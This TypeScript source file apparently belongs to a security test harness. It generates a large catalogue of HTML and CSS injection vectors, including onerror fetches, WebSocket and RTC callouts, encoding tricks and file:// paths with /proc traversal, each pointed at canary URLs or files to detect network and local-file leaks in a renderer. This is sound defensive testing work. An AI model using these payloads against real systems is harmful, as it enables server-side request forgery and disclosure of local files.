import type { Canary } from './canary';

/** HTML that fetches a URL or reads a file, by name. Each vector requests its own name from the canary. */
export function canaryVectors({ origins, file, folder, image }: Canary): Map<string, string> {
  let turn = 0;
  const vectors = new Map<string, string>();
  const add = (name: string, html: (url: string) => string): void => {
    const origin = origins[turn++ % origins.length] ?? '';
    vectors.set(name, html(`${origin}/${name}`));
  };

  for (const [index, origin] of origins.entries())
    vectors.set(`address-${index}`, `<img src="${origin}/address-${index}">`);

  const tags: Record<string, (url: string) => string> = {
    img: (url) => `<img src="${url}">`,
    'img-srcset': (url) => `<img srcset="${url} 1x, ${url}-2 2x">`,
    'img-lowsrc': (url) => `<img lowsrc="${url}" dynsrc="${url}">`,
    'img-protocol-relative': (url) => `<img src="${url.replace('http:', '')}">`,
    'img-upper-case': (url) => `<IMG SRC="${url.replace('http', 'HtTp')}">`,
    'img-tab-in-scheme': (url) => `<img src="ht\ttp&#10;:${url.slice(5)}">`,
    'img-entities': (url) => `<img src="${[...url].map((c) => `&#${c.charCodeAt(0)};`).join('')}">`,
    'img-backslashes': (url) => `<img src="${url.replace('//', '\\\\')}">`,
    'img-no-quotes': (url) => `<img/src=${url}/onerror=x>`,
    'image-tag': (url) => `<image src="${url}">`,
    picture: (url) => `<picture><source srcset="${url}"><img src="x"></picture>`,
    'link-in-body-of-svg': (url) =>
      `<svg><link rel="stylesheet" href="${url}" xmlns="http://www.w3.org/1999/xhtml"/></svg>`,
    'meta-refresh': (url) => `<meta http-equiv="refresh" content="0;url=${url}">`,
    base: (url) => `<base href="${url}/"><img src="relative">`,
    iframe: (url) => `<iframe src="${url}"></iframe>`,
    'iframe-srcdoc': (url) => `<iframe srcdoc="<img src='${url}'>"></iframe>`,
    'iframe-srcdoc-twice': (url) =>
      `<iframe srcdoc="<iframe srcdoc=&quot;<img src='${url}'>&quot;></iframe>"></iframe>`,
    'iframe-data': (url) => `<iframe src="data:text/html,<img src='${url}'>"></iframe>`,
    'iframe-javascript': (url) => `<iframe src="javascript:'<img src=${url}>'"></iframe>`,
    frameset: (url) => `</p><frameset><frame src="${url}"></frameset>`,
    object: (url) => `<object data="${url}"></object>`,
    'object-svg-data': (url) =>
      `<object data="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${url}'/></svg>"></object>`,
    embed: (url) => `<embed src="${url}">`,
    applet: (url) => `<applet code="x" codebase="${url}"></applet>`,
    audio: (url) => `<audio src="${url}" autoplay preload="auto"></audio>`,
    video: (url) => `<video src="${url}" autoplay preload="auto"></video>`,
    'video-poster': (url) => `<video poster="${url}"></video>`,
    'video-source': (url) => `<video autoplay><source src="${url}"><track default src="${url}"></video>`,
    track: (url) => `<video src="data:video/mp4,x"><track kind="captions" default src="${url}"></video>`,
    'svg-image': (url) => `<svg width="9" height="9"><image href="${url}" width="9" height="9"/></svg>`,
    'svg-image-xlink': (url) => `<svg><image xlink:href="${url}" width="9" height="9"/></svg>`,
    'svg-use': (url) => `<svg><use href="${url}#a"/></svg>`,
    'svg-fe-image': (url) =>
      `<svg><filter id="f"><feImage href="${url}"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>`,
    'svg-foreign-object': (url) =>
      `<svg width="9" height="9"><foreignObject width="9" height="9"><img src="${url}"></foreignObject></svg>`,
    'svg-style': (url) =>
      `<svg><style>@import "${url}";</style><rect width="9" height="9" fill="url(${url}#a)"/></svg>`,
    'svg-animated-href': (url) =>
      `<svg><image width="9" height="9"><set attributeName="href" to="${url}"/></image></svg>`,
    'svg-script': (url) => `<svg><script href="${url}"></script></svg>`,
    'svg-data-image': (url) =>
      `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${url}'/></svg>">`,
    mathml: (url) => `<math><mtext><style><img src="${url}"></style></mtext><mi href="${url}">x</mi></math>`,
    'mathml-mglyph': (url) => `<math><mi><mglyph><style><img src=${url}></style></mglyph></mi></math>`,
    'style-attribute': (url) => `<p style="background:url(${url})">x</p>`,
    'style-attribute-entities': (url) => `<p style="background:&#117;rl(${url})">x</p>`,
    'style-in-noscript': (url) =>
      `<noscript><style>p{background:url(${url})}</style><img src="${url}"></noscript><p>x</p>`,
    'link-style-sheet-data': (url) =>
      `<link rel="stylesheet" href="data:text/css,p{background:url(${url})}"><p>x</p>`,
    'input-image': (url) => `<input type="image" src="${url}">`,
    'body-background': (url) => `<body background="${url}">x</body>`,
    'table-background': (url) =>
      `<table background="${url}"><tr background="${url}"><td background="${url}">x</table>`,
    'a-ping': (url) => `<a href="#" ping="${url}" autofocus>x</a>`,
    form: (url) =>
      `<form action="${url}" method="post"><button autofocus formaction="${url}">x</button></form>`,
    script: (url) => `<script src="${url}"></script><script>fetch('${url}')</script>`,
    'script-module': (url) => `<script type="module">import '${url}'</script>`,
    'script-speculation': (url) =>
      `<script type="speculationrules">{"prefetch":[{"urls":["${url}"]}]}</script>`,
    'script-import-map': (url) => `<script type="importmap">{"imports":{"a":"${url}"}}</script>`,
    'event-error': (url) => `<img src="x" onerror="fetch('${url}')">`,
    'event-load': (url) => `<body onload="new Image().src='${url}'"><svg onload="fetch('${url}')"></svg>`,
    'event-socket': (url) => `<img src=x onerror="new WebSocket('${url.replace('http', 'ws')}')">`,
    'event-worker': (url) =>
      `<img src=x onerror="new Worker(URL.createObjectURL(new Blob(['fetch(\\'${url}\\')'])))">`,
    'event-rtc': (url) =>
      `<img src=x onerror="var p=new RTCPeerConnection({iceServers:[{urls:'turn:${new URL(url).host}?transport=tcp',username:'a',credential:'b'}]});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))">`,
    'html-import': (url) => `<link rel="import" href="${url}"><?xml-stylesheet href="${url}"?>`,
    portal: (url) => `<portal src="${url}"></portal><fencedframe src="${url}"></fencedframe>`,
    template: (url) => `<div><template shadowrootmode="open"><img src="${url}"></template></div>`,
    'template-left': (url) => `</template></div></main><img src="${url}">`,
    'style-left': (url) => `<style></style><img src="${url}"></style>`,
    'comment-left': (url) => `<!--><img src="${url}">--><![CDATA[><img src="${url}">]]>`,
    'textarea-left': (url) => `<textarea></textarea><img src="${url}"></textarea>`,
    'title-left': (url) => `<title></title><img src="${url}"></title><xmp><img src="${url}"></xmp>`,
    plaintext: (url) => `<select><img src="${url}"></select><plaintext><img src="${url}">`,
    attribution: (url) => `<img src="data:image/png;base64,x" attributionsrc="${url}">`,
  };
  const styles: Record<string, (url: string) => string> = {
    'css-background': (url) => `.x{background:url(${url})}`,
    'css-background-string': (url) => `.x{background-image:url("${url}")}`,
    'css-escaped': (url) => `.x{b\\61ckground:\\75 rl(${url})}`,
    'css-comment': (url) => `.x{background/**/:/**/url(${url})}`,
    'css-import': (url) => `@import "${url}";`,
    'css-import-url': (url) => `@import url(${url}) screen;`,
    'css-import-escaped': (url) => `@\\69mport "${url}";`,
    'css-font-face': (url) => `@font-face{font-family:f;src:url(${url})}.x{font-family:f}`,
    'css-list-style': (url) => `li{list-style-image:url(${url})}`,
    'css-cursor': (url) => `.x{cursor:url(${url}),auto}`,
    'css-content': (url) => `.x::before{content:url(${url})}`,
    'css-border-image': (url) => `.x{border:9px solid;border-image:url(${url}) 3}`,
    'css-mask': (url) => `.x{mask:url(${url});-webkit-mask-image:url(${url})}`,
    'css-filter': (url) => `.x{filter:url(${url}#f)}`,
    'css-clip-path': (url) => `.x{clip-path:url(${url}#f)}`,
    'css-shape': (url) => `.x{float:left;shape-outside:url(${url})}`,
    'css-image-set': (url) => `.x{background-image:image-set("${url}" 1x)}`,
    'css-webkit-image-set': (url) => `.x{background-image:-webkit-image-set(url(${url}) 1x)}`,
    'css-cross-fade': (url) => `.x{background:-webkit-cross-fade(url(${url}),url(${url}),50%)}`,
    'css-src-function': (url) => `.x{background:src("${url}")}`,
    'css-variable': (url) => `.x{--a:url(${url});background:var(--a)}`,
    'css-property': (url) =>
      `@property --a{syntax:"<url>";inherits:true;initial-value:url(${url})}.x{background:var(--a)}`,
    'css-nested': (url) => `@media all{@supports(color:red){.x{&{background:url(${url})}}}}`,
    'css-page': (url) => `@page{background:url(${url});@top-left{content:url(${url})}}`,
    'css-container': (url) => `@layer a{.x{background:url(${url})}}`,
    'css-namespace': (url) => `@namespace url(${url});.x{background:url(${url})}`,
    'css-unclosed': (url) => `.x{background:url(${url}`,
    'css-attribute-leak': (url) => `input:not([value^=a]){background:url(${url})}`,
  };
  for (const [name, html] of Object.entries(tags)) add(name, html);
  for (const [name, css] of Object.entries(styles))
    add(name, (url) => `<style>${css(url)}</style><p class="x">x</p><ul><li>x</ul><input>`);

  for (const rel of ['stylesheet', 'preload', 'prefetch', 'modulepreload', 'icon', 'manifest', 'prerender'])
    add(`link-${rel}`, (url) => `<link rel="${rel}" as="image" href="${url}">`);
  for (const rel of ['dns-prefetch', 'preconnect'])
    add(`link-${rel}`, (url) => `<link rel="${rel}" href="${new URL(url).origin}">`);

  const slashes = file.replaceAll('/', '\\');
  const files: Readonly<Record<string, string>> = {
    plain: `file://${file}`,
    'upper-case': `FILE://${file}`,
    localhost: `file://localhost${file}`,
    'one-slash': `file:${file}`,
    backslashes: `file:\\\\${slashes}`,
    entities: `&#102;ile&colon;//${file}`,
    'tab-and-newline': `fi\tle&#10;:/&#x09;/${file}`,
    'percent-encoded': `file://${file.replace('canary', '%63anary')}`,
    'dot-dot': `file:///proc/self/../..${file}`,
    'proc-root': `file:///proc/self/root${file}`,
    folder: `file://${folder}/`,
    'view-source': `view-source:file://${file}`,
    filesystem: `filesystem:file://${file}`,
    blob: `blob:file://${file}`,
    'bare-path': file,
    chrome: `chrome://version`,
  };
  for (const [name, url] of Object.entries(files)) {
    vectors.set(`file-iframe-${name}`, `<iframe src="${url}" width="500" height="200"></iframe>`);
    vectors.set(
      `file-object-${name}`,
      `<object data="${url}" type="text/plain"></object><embed src="${url}">`,
    );
    const image = url.replace('canary.txt', 'canary.png');
    vectors.set(`file-img-${name}`, `<img src="${image}"><p style="background:url('${image}')">x`);
  }
  vectors.set('file-refresh', `<meta http-equiv="refresh" content="0;url=file://${file}">`);
  vectors.set(
    'file-svg',
    `<svg width="99" height="99"><image href="file://${image}" width="99" height="99"/></svg>`,
  );
  vectors.set('file-srcdoc', `<iframe srcdoc="<iframe src='file://${file}'></iframe>"></iframe>`);
  vectors.set(
    'file-base',
    `<base href="file://${folder}/"><iframe src="canary.txt"></iframe><img src="canary.png">`,
  );
  vectors.set(
    'file-import',
    `<style>@import "file://${file}";.x{background:url(file://${image})}</style><p class="x">x`,
  );
  return vectors;
}
